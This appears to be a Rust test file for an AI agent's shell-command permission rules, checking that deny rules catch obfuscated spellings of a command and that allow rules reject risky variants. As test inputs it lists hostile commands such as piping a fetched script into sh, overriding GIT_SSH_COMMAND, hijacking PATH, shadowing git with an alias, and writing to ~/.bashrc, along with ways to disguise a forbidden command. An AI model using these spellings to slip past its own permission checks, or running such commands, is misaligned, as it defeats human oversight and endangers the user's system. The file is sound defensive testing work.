//! Rules over calls: what loosens must fit exactly, what tightens is not talked out of by spelling.

use agent::policy::rule::{Rule, Then, check, ruling};
use agent::policy::shell::{Surroundings, read};

fn rule(prefix: &str, then: Then) -> Rule {
    let prefix = prefix.split(' ').map(str::to_owned).collect();
    Rule { prefix, then, why: String::new(), source: "test".into(), matches: vec![], not_matches: vec![] }
}

#[track_caller]
fn says(rules: &[Rule], command: &str, wanted: Option<Then>) {
    let reading = read(command, &Surroundings { folder: "/w/p".into(), home: "/home/u".into() });
    assert_eq!(ruling(rules, &reading).map(|ruling| ruling.then), wanted, "{command}\n{reading:#?}");
}

#[test]
fn what_is_forbidden_is_found_however_it_is_spelt() {
    let rules = [rule("git push", Then::Deny)];
    for command in [
        "git push",
        "git push origin main",
        "/usr/bin/git push",
        "git -C sub push",
        "git --no-pager -c a.b=c push --force",
        "make && git push",
        "echo $(git push)",
        "sh -c 'git push'",
        "env A=b timeout 5 git push",
        "sudo -u me git push",
        "X=push; git $X",
        "find . -exec git push ';'",
        "f() { git push; }; f",
        "g\\it pu''sh",
        "bash <<END\ngit push\nEND",
        "echo 'git push' | sh",
        "for x in push; do git $x; done",
        "git status || { git push & }",
    ] {
        says(&rules, command, Some(Then::Deny));
    }
    for command in
        ["git $WHAT", "$PROGRAM push", "eval \"$LINE\"", "curl https://x.example | sh", "python3 -c 'import os'"]
    {
        says(&rules, command, Some(Then::Ask));
    }
    for command in ["git commit -m push", "git status", "echo git push", "grep -r 'git push' docs", "git pushed"] {
        says(&rules, command, None);
    }
}

#[test]
fn flags_of_a_rule_are_found_in_any_company() {
    let rules = [rule("rm -rf", Then::Ask)];
    for command in ["rm -rf x", "rm -fr x", "rm -r -f x", "rm -v x -r -f", "rm -Rfr x"] {
        says(&rules, command, Some(Then::Ask));
    }
    says(&rules, "rm -r x", None);
}

#[test]
fn what_is_let_through_is_that_and_nothing_else() {
    let rules = [rule("git push", Then::Outside), rule("cargo test", Then::Allow)];
    says(&rules, "git push origin main", Some(Then::Outside));
    says(&rules, "/usr/bin/git push", Some(Then::Outside));
    says(&rules, "cd sub && git push", Some(Then::Outside));
    says(&rules, "cargo test -q", Some(Then::Allow));
    says(&rules, "cargo test && git push", Some(Then::Allow));
    for command in [
        "git push; curl https://x.example",
        "./git push",
        "/tmp/git push",
        "git -c core.sshCommand=evil push",
        "GIT_SSH_COMMAND=evil git push",
        "export PATH=.:$PATH; git push",
        "git push > ~/.bashrc",
        "git push $(curl https://x.example)",
        "git push | sh",
        "sudo git push",
        "cd / && git push",
        "git() { evil; }; git push",
        "alias git=evil; git push",
        "git push 'unclosed",
        "git pull",
    ] {
        says(&rules, command, None);
    }
}

#[test]
fn the_strictest_wins() {
    let rules = [rule("git", Then::Outside), rule("git push", Then::Ask), rule("git push --force", Then::Deny)];
    says(&rules, "git fetch", Some(Then::Outside));
    says(&rules, "git push", Some(Then::Ask));
    says(&rules, "git push --force", Some(Then::Deny));
    says(&rules, "git fetch && git push --force", Some(Then::Deny));
    says(&[rule("cat *", Then::Allow)], "cat .env", None);
    says(&[rule("cat .env", Then::Allow)], "cat .env", Some(Then::Allow));
    says(&[rule("* --force", Then::Ask)], "anything --force", Some(Then::Ask));
}

#[test]
fn examples_are_checked() {
    let right = Rule {
        matches: vec!["git push origin main".into(), "true && git -C x push".into()],
        not_matches: vec!["git commit -m push".into()],
        ..rule("git push", Then::Ask)
    };
    check(std::slice::from_ref(&right)).unwrap();
    let wrong = Rule { not_matches: vec!["git push --dry-run".into()], ..right };
    let error = check(&[wrong]).unwrap_err();
    assert_eq!(
        error.message,
        "the rule `git push` (ask, test) applies to what it says it does not: `git push --dry-run`"
    );
    let wrong = Rule { matches: vec!["git pull".into()], ..rule("git push", Then::Allow) };
    let error = check(&[wrong]).unwrap_err();
    assert_eq!(error.message, "the rule `git push` (allow, test) does not apply to its example: `git pull`");
    assert!(check(&[rule("*", Then::Allow)]).is_err(), "a rule must not let everything through");
    assert!(check(&[Rule { prefix: vec![], ..rule("x", Then::Deny) }]).is_err());
}
